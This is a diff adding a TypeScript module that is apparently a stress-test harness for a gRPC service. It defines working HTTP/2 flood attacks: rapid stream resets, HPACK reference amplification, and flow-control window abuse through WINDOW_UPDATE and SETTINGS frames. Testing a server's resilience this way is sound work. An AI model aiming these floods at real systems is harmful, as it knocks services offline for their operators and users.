@@ -1,0 +1,189 @@
+/** Abuse of HTTP/2 frame by frame. Nothing of what comes back is looked at. */
+import { once } from "node:events";
+import type { Socket } from "node:net";
+import { setImmediate as turn, setTimeout as sleep } from "node:timers/promises";
+import { encodeBlock, encodeInteger, type Field } from "../../../test/helpers/wire/hpack.js";
+import {
+  errorCodes,
+  flags,
+  frameBytes,
+  frameTypes,
+  numberBytes,
+  settingIds,
+  settingsPayload,
+} from "../../../test/helpers/wire/http2-frames.js";
+import { type Attacks, type Deeds, openSocket, type Target } from "./attack.js";
+import { readProgram } from "./calls.js";
+
+const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+
+/** What a connection is filled with. */
+interface Flood {
+  /** The first SETTINGS. */
+  readonly settings?: Readonly<Record<number, number>>;
+  /** Sent first; it may open streams below {@link firstStream}. */
+  readonly begin?: Buffer;
+  /** Sent again and again, with the number of the next stream. */
+  readonly more: (stream: number) => Buffer;
+  /** Streams that `more` opens. */
+  readonly streams: number;
+  /** Pause after each, in milliseconds; none without. */
+  readonly pauseMs?: number;
+  /** How often it is sent before the connection is closed and opened again; until the attack is over without. */
+  readonly times?: number;
+}
+
+/** The first stream that `more` may open. */
+const firstStream = 10_001;
+
+/** How long a node may read nothing before the connection is given up. */
+const stuckMs = 500;
+
+/** Floods connections, each of which is opened again when it is closed, told to go away, or read no more. */
+async function flood(port: number, signal: AbortSignal, connections: number, what: Flood): Promise<Deeds> {
+  const { settings = {}, begin, more, streams, pauseMs, times = Infinity } = what;
+  let [cut, stuck, sentBytes] = [0, 0, 0];
+  const isOver = (): boolean => signal.aborted;
+  const run = async (): Promise<void> => {
+    while (!isOver()) {
+      const socket = openSocket(port);
+      const gone = new AbortController();
+      socket.once("close", () => gone.abort());
+      onGoAway(socket, () => gone.abort());
+      socket.write(preface);
+      socket.write(frameBytes(frameTypes.settings, 0, 0, settingsPayload(settings)));
+      if (begin !== undefined) {
+        socket.write(begin);
+      }
+      for (let i = 0; i < times && !isOver() && !gone.signal.aborted; i++) {
+        const bytes = more(firstStream + 2 * streams * i);
+        sentBytes += bytes.length;
+        if (!socket.write(bytes)) {
+          const limit = AbortSignal.timeout(stuckMs);
+          await once(socket, "drain", { signal: AbortSignal.any([signal, gone.signal, limit]) }).catch(() => undefined);
+          if (limit.aborted) {
+            stuck++;
+            break;
+          }
+        }
+        await (pauseMs === undefined ? turn() : sleep(pauseMs));
+      }
+      cut += gone.signal.aborted ? 1 : 0;
+      socket.destroy();
+      // A node that takes no more connections is asked again, but not without a pause.
+      await sleep(5);
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, run));
+  return { "connections cut": cut, stuck, "sent MiB": sentBytes / 1024 ** 2 };
+}
+
+/** Reads the heads of the frames that come, until one of them is GOAWAY. */
+function onGoAway(socket: Socket, then: () => void): void {
+  const headBytes = 9;
+  let unread = Buffer.alloc(0);
+  let skipBytes = 0;
+  socket.on("data", (bytes: Buffer) => {
+    unread = Buffer.concat([unread, bytes]);
+    for (;;) {
+      const skipped = Math.min(skipBytes, unread.length);
+      skipBytes -= skipped;
+      unread = unread.subarray(skipped);
+      if (unread.length < headBytes) {
+        return;
+      }
+      if (unread[3] === frameTypes.goAway) {
+        then();
+      }
+      skipBytes = headBytes + unread.readUIntBE(0, 3);
+    }
+  });
+}
+
+const pseudo = (path: string): Field[] => [
+  [":method", "POST"],
+  [":scheme", "http"],
+  [":authority", "a"],
+  [":path", path],
+];
+const call = encodeBlock([
+  ...pseudo("/gatehouse.info.v1.InfoService/GetVersion"),
+  ["content-type", "application/grpc"],
+  ["te", "trailers"],
+]);
+const untyped = encodeBlock(pseudo("/gatehouse.info.v1.InfoService/GetVersion"));
+
+/** Streams that are opened with a block, and reset at once. */
+function resets(block: Buffer, count: number): Pick<Flood, "more" | "streams"> {
+  const cancel = numberBytes(errorCodes.cancel);
+  return {
+    streams: count,
+    more: (first) =>
+      Buffer.concat(
+        Array.from({ length: count }, (_, i) => [
+          frameBytes(frameTypes.headers, flags.endHeaders, first + 2 * i, block),
+          frameBytes(frameTypes.reset, 0, first + 2 * i, cancel),
+        ]).flat(),
+      ),
+  };
+}
+
+/** Streams that ask for a program, before the flood begins. */
+function readers(program: string, count: number): Buffer {
+  const { path, body } = readProgram(program);
+  const block = encodeBlock([...pseudo(path), ["content-type", "application/grpc"], ["te", "trailers"]]);
+  const frames = Array.from({ length: count }, (_, i) => [
+    frameBytes(frameTypes.headers, flags.endHeaders, 2 * i + 1, block),
+    frameBytes(frameTypes.data, flags.endStream, 2 * i + 1, body),
+  ]);
+  return Buffer.concat(frames.flat());
+}
+
+/** A long field that is remembered, and blocks that refer to it thousands of times. */
+function references(): Flood {
+  const text = (value: string): Buffer => Buffer.concat([encodeInteger(value.length, 7), Buffer.from(value)]);
+  const remembered = Buffer.concat([Buffer.from([0x40]), text("x"), text("y".repeat(4_000))]);
+  const opened = flags.endHeaders | flags.endStream;
+  const block = Buffer.concat([call, Buffer.alloc(16_000, 0xbe)]);
+  return {
+    begin: frameBytes(frameTypes.headers, opened, 1, Buffer.concat([call, remembered])),
+    streams: 1,
+    more: (stream) => frameBytes(frameTypes.headers, opened, stream, block),
+  };
+}
+
+const waiting = 100;
+const windowOf = (bytes: number): Readonly<Record<number, number>> => ({ [settingIds.initialWindow]: bytes });
+
+const singleBytes = Buffer.concat(
+  Array.from({ length: waiting }, (_, i) => frameBytes(frameTypes.windowUpdate, 0, 2 * i + 1, numberBytes(1))),
+);
+const flips = Buffer.concat(
+  Array.from({ length: 50 }, () => [
+    frameBytes(frameTypes.settings, 0, 0, settingsPayload(windowOf(1))),
+    frameBytes(frameTypes.settings, 0, 0, settingsPayload(windowOf(0))),
+  ]).flat(),
+);
+
+function attack(connections: number, what: (target: Target) => Flood): Attacks[string] {
+  return { harm: (target, signal) => flood(target.port, signal, connections, what(target)) };
+}
+
+export const frameAttacks: Attacks = {
+  "rapid resets, one connection": attack(1, () => resets(call, 100)),
+  "rapid resets, 50 connections": attack(50, () => resets(call, 100)),
+  "headers and RST without a content type": attack(4, () => ({ ...resets(untyped, 50), times: 1, pauseMs: 100 })),
+  "HPACK references": attack(1, references),
+  "windows opened byte by byte": attack(1, ({ program }) => ({
+    settings: windowOf(0),
+    begin: readers(program, waiting),
+    more: () => singleBytes,
+    streams: 0,
+  })),
+  "windows opened and shut by SETTINGS": attack(1, ({ program }) => ({
+    settings: windowOf(0),
+    begin: readers(program, waiting),
+    more: () => flips,
+    streams: 0,
+  })),
+};
